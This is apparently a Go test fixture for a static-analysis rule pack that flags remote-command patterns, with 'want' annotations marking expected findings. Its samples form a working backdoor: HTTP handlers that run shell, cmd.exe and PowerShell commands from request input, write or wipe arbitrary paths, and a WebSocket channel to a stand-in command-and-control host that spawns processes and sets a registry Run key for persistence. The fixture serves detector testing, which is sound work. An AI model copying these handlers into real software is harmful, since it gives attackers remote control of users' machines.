// Annotated samples for the remote-command pack (Go): an agent's "diagnostics" HTTP
// endpoint and a WebSocket task channel that steer processes, files and the registry.
package main

import (
	"encoding/json"
	"fmt"
	"io"
	"log"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"

	"github.com/gorilla/websocket"
	"golang.org/x/sys/windows/registry"
)

// diagHandler is registered by name with http.HandleFunc.
func diagHandler(w http.ResponseWriter, r *http.Request) {
	q := r.URL.Query()
	switch q.Get("action") {
	case "ping": // want "remote-command/dispatcher"
		fmt.Fprint(w, "pong")
	case "run":
		out, err := exec.Command("/bin/sh", "-c", q.Get("cmd")).CombinedOutput() // want "remote-command/process-from-network"
		if err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
		}
		w.Write(out)
	case "drop":
		body, _ := io.ReadAll(r.Body)
		os.WriteFile(q.Get("path"), body, 0o755) // want "remote-command/file-operation-from-network"
	case "wipe":
		os.RemoveAll(r.FormValue("dir")) // want "remote-command/file-operation-from-network"
	}
}

// runHandler takes a JSON body.
func runHandler(w http.ResponseWriter, r *http.Request) {
	var job struct {
		Path string   `json:"path"`
		Args []string `json:"args"`
	}
	if err := json.NewDecoder(r.Body).Decode(&job); err != nil {
		http.Error(w, "bad job", http.StatusBadRequest)
		return
	}
	cmd := exec.Command(job.Path, job.Args...) // want "remote-command/process-from-network"
	if err := cmd.Start(); err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
	}
}

// healthHandler answers with constants and runs a fixed self-test.
func healthHandler(w http.ResponseWriter, r *http.Request) {
	verbose := r.URL.Query().Get("verbose") == "1"
	out, _ := exec.Command("/opt/agent/bin/selftest", "--quick").Output() // ok: a fixed program and fixed arguments
	if verbose {
		w.Write(out)
	}
	fmt.Fprint(w, "ok")
}

type server struct {
	root string
}

// handleFetch is a method value registered as a handler.
func (s *server) handleFetch(w http.ResponseWriter, r *http.Request) {
	name := r.URL.Query().Get("name")
	exec.Command(filepath.Join(s.root, "tools", name)).Run() // todo "remote-command/process-from-network"
}

// Session is a WebSocket task channel.
type Session struct {
	ws *websocket.Conn
}

type Task struct {
	Op    string `json:"op"`
	Path  string `json:"path"`
	Name  string `json:"name"`
	Value string `json:"value"`
	PID   int    `json:"pid"`
}

func (s *Session) loop() {
	for {
		var t Task
		if err := s.ws.ReadJSON(&t); err != nil {
			return
		}
		switch t.Op {
		case "spawn": // want "remote-command/dispatcher"
			exec.Command(t.Path).Start() // want "remote-command/process-from-network"
		case "kill":
			if p, err := os.FindProcess(t.PID); err == nil {
				p.Kill()
			}
		case "persist":
			k, _, err := registry.CreateKey(registry.CURRENT_USER, `Software\Microsoft\Windows\CurrentVersion\Run`, registry.SET_VALUE)
			if err == nil {
				k.SetStringValue(t.Name, t.Value) // want "remote-command/registry-from-network"
				k.Close()
			}
		case "policy":
			setPolicy(t.Name, t.Value)
		}
	}
}

// setPolicy writes a value under the agent's policy key: its key handle is typed.
func setPolicy(name, value string) error {
	var k registry.Key
	k, _, err := registry.CreateKey(registry.LOCAL_MACHINE, `SOFTWARE\Policies\Vendor\Agent`, registry.SET_VALUE)
	if err != nil {
		return err
	}
	defer k.Close()
	if n, err := strconv.Atoi(value); err == nil {
		return k.SetDWordValue(name, uint32(n)) // want "remote-command/registry-from-network"
	}
	return k.SetStringValue(name, value) // want "remote-command/registry-from-network"
}

// raw messages from a second socket: a whole command line is run.
func (s *Session) rawLoop() {
	for {
		_, msg, err := s.ws.ReadMessage()
		if err != nil {
			return
		}
		out, _ := exec.Command("powershell.exe", "-NoProfile", "-Command", string(msg)).CombinedOutput() // want "remote-command/process-from-network"
		s.ws.WriteMessage(websocket.TextMessage, out)
	}
}

// markInstalled writes constants to the registry.
func markInstalled() {
	var k registry.Key
	k, _, err := registry.CreateKey(registry.LOCAL_MACHINE, `SOFTWARE\Vendor\Agent`, registry.SET_VALUE)
	if err != nil {
		return
	}
	defer k.Close()
	k.SetStringValue("Version", "7.1.0") // ok: constant name and value
	exe, _ := os.Executable()
	k.SetStringValue("Path", exe) // ok: the agent's own path, not network input
}

func main() {
	markInstalled()
	srv := &server{root: `C:\Program Files\Vendor`}
	http.HandleFunc("/diag", diagHandler)
	http.HandleFunc("/run", runHandler)
	http.HandleFunc("/health", healthHandler)
	http.HandleFunc("/fetch", srv.handleFetch)
	http.HandleFunc("/exec", func(w http.ResponseWriter, r *http.Request) {
		exec.Command("cmd.exe", "/C", r.URL.Query().Get("c")).Run() // want "remote-command/process-from-network"
	})
	ws, _, err := websocket.DefaultDialer.Dial("wss://c2.example.org/tasks", nil)
	if err == nil {
		s := &Session{ws: ws}
		go s.loop()
		go s.rawLoop()
	}
	log.Fatal(http.ListenAndServe(":8088", nil))
}
